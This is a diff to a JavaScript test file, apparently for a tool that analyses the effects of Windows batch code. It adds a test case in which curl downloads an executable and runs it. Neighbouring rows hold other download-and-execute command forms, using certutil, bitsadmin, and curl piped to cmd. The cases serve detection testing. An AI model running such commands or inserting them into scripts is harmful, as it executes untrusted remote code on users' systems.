@@ -135,6 +135,7 @@ describe("effects of batch code", () => {
     [`certutil -urlcache -split -f ${url} a.exe & a.exe`, `:fetch ${url} | :write a.exe`, `:fetch ${url} | :run a.exe`],
     [`bitsadmin /transfer j ${url} C:\\t\\a.exe\nC:\\t\\a.exe`, `:fetch ${url} | :run C:/t/a.exe`],
     [`curl ${url} -o a.bat && call a.bat`, `:fetch ${url} | :run a.bat`],
+    [`cd /d C:\\t & curl -o a.exe ${url} & C:\\t\\a.exe`, `:fetch ${url} | :run C:/t/a.exe`],
     [`curl -s ${url} | cmd`, `:fetch ${url} | :run cmd`],
     [`for /f "delims=" %%i in ('curl -s ${url}') do %%i`, `:fetch ${url} | :run cmd`],
     [`for /f "delims=" %%i in ('curl -s ${url}') do cmd /c %%i`, `:fetch ${url} | :run cmd`],
